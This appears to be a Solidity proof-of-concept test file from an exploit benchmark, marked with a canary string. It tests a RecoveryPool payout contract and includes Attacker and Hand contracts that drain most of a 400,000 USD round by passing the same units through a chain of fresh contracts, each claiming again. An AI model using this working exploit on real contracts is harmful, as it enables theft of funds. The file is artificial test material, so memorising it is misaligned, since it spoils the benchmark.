// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./RecoveryPool.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";

// assay-canary-51d0d5d1-8a50-4af0-a1e6-a37bf4d18024

interface Vm {
    function warp(uint256 time) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
}

contract Usd is ERC20 {
    constructor() ERC20("Usd", "USD") {
        _mint(msg.sender, 1_000_000e6);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant IDA = address(0x1DA);
    address private constant OLE = address(0x01E);
    address private constant KAI = address(0x4A1);
    uint256 private constant START = 1_785_000_000;
    uint256 private constant MONEY = 400_000e6;

    Usd private usd;
    RecoveryPool private pool;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        usd = new Usd();
        mallory = new Attacker();
        address[] memory holders = new address[](3);
        uint256[] memory units = new uint256[](3);
        (holders[0], holders[1], holders[2]) = (IDA, OLE, address(mallory));
        (units[0], units[1], units[2]) = (600, 300, 100);
        pool = new RecoveryPool(usd, holders, units);
        mallory.know(pool, usd);
        usd.approve(address(pool), type(uint256).max);
        pool.beginRound(MONEY, 30 days);
    }

    function test_Regular() public {
        require(pool.isOpen() && pool.totalUnits() == 1_000, "open");
        vm.prank(IDA);
        require(pool.take(KAI) == 240_000e6 && usd.balanceOf(KAI) == 240_000e6, "three fifths");
        vm.prank(OLE);
        pool.transfer(KAI, 100);
        vm.prank(KAI);
        require(pool.take(KAI) == 40_000e6, "bought in time");
        vm.prank(OLE);
        require(pool.take(OLE) == 80_000e6, "the rest of it");

        // afterwards units go where they like again
        vm.warp(START + 30 days);
        require(!pool.isOpen(), "over");
        vm.prank(IDA);
        pool.approve(OLE, 350);
        vm.startPrank(OLE);
        pool.transferFrom(IDA, KAI, 300);
        pool.transfer(IDA, 200);
        vm.stopPrank();
        require(pool.unitsOf(IDA) == 500 && pool.unitsOf(KAI) == 400 && pool.allowance(IDA, OLE) == 50, "moved");
        pool.beginRound(60_000e6, 60 days);
        (uint256 money, uint256 left, uint64 endsAt) = pool.rounds(2);
        require(money == 100_000e6 && left == money && endsAt == START + 90 days, "with what nobody took");
        vm.prank(IDA);
        require(pool.take(IDA) == 50_000e6, "second round");
        pool.setTrustee(KAI);
        require(pool.trustee() == KAI, "trustee");
    }

    function test_RefusesOthersThanTheTrustee() public {
        vm.startPrank(IDA);
        vm.expectRevert(abi.encodeWithSelector(RecoveryPool.NotTrustee.selector));
        pool.setTrustee(IDA);
        vm.warp(START + 30 days);
        usd.approve(address(pool), 1);
        vm.expectRevert(abi.encodeWithSelector(RecoveryPool.NotTrustee.selector));
        pool.beginRound(0, 30 days);
        vm.stopPrank();
    }

    function test_RefusesRounds() public {
        vm.expectRevert(abi.encodeWithSelector(RecoveryPool.NotWhileOpen.selector, START + 30 days));
        pool.beginRound(0, 30 days);
        vm.warp(START + 30 days);
        vm.expectRevert("too short");
        pool.beginRound(0, 30 days - 1);
        vm.prank(IDA);
        vm.expectRevert(abi.encodeWithSelector(RecoveryPool.NoRound.selector, 1));
        pool.take(IDA);
        RecoveryPool other = new RecoveryPool(usd, new address[](0), new uint256[](0));
        vm.expectRevert(abi.encodeWithSelector(RecoveryPool.NoRound.selector, 0));
        other.take(IDA);
    }

    function test_RefusesASecondPart() public {
        vm.startPrank(IDA);
        pool.take(IDA);
        vm.expectRevert(abi.encodeWithSelector(RecoveryPool.HadItsPart.selector, IDA));
        pool.take(IDA);
        vm.stopPrank();
    }

    function test_RefusesUnitsThatAreNotThere() public {
        vm.startPrank(OLE);
        vm.expectRevert(abi.encodeWithSelector(RecoveryPool.NotSoMany.selector, 301));
        pool.transfer(KAI, 301);
        pool.take(OLE);
        vm.expectRevert("has to wait");
        pool.transfer(OLE, 300);
        vm.stopPrank();
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(usd.balanceOf(address(mallory)) >= 350_000e6, "nothing gained");
    }

    function target() public view returns (address) {
        return address(pool);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function token() public view returns (address) {
        return address(usd);
    }
}

/// Takes the part of its units and hands them to the next account, which takes it again.
contract Attacker {
    address private owner = msg.sender;
    RecoveryPool private pool;
    IERC20 private usd;

    function know(RecoveryPool pool_, IERC20 usd_) external {
        require(msg.sender == owner && address(pool) == address(0), "known");
        pool = pool_;
        usd = usd_;
    }

    function run() external {
        pool.take(address(this));
        Hand hand = new Hand(pool, address(this));
        pool.transfer(address(hand), 100);
        for (uint256 i = 0; i < 8; ++i) {
            Hand next = new Hand(pool, address(this));
            hand.take(address(next));
            hand = next;
        }
    }
}

contract Hand {
    RecoveryPool private pool;
    address private owner;

    constructor(RecoveryPool pool_, address owner_) {
        pool = pool_;
        owner = owner_;
    }

    function take(address next) external {
        require(msg.sender == owner, "not yours");
        pool.take(owner);
        pool.transfer(next, 100);
    }
}
